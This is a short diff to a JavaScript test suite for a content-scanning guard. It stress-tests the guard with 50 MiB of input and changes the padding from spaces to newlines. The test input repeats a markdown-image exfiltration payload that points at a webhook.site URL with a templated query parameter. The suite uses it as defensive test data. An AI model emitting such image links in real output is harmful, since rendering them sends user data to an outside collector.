@@ -44,7 +44,7 @@ describe('content guard: total on adversarial and huge inputs', function () {
 
   it('50 MiB with a stretch dense with findings gives a valid result instead of overflowing the stack', () => {
     const dense = fill('![a](https://webhook.site/x?q={{h}})\n', 2 * MIB);
-    const text = `${dense}${' '.repeat(48 * MIB)}`;
+    const text = `${dense}${'\n'.repeat(48 * MIB)}`; // newlines: the cheapest filler to scan
     const result = scanContent(text);
     assert.equal(result.scannedChars, text.length);
     assert.notEqual(result.verdict, 'allow');
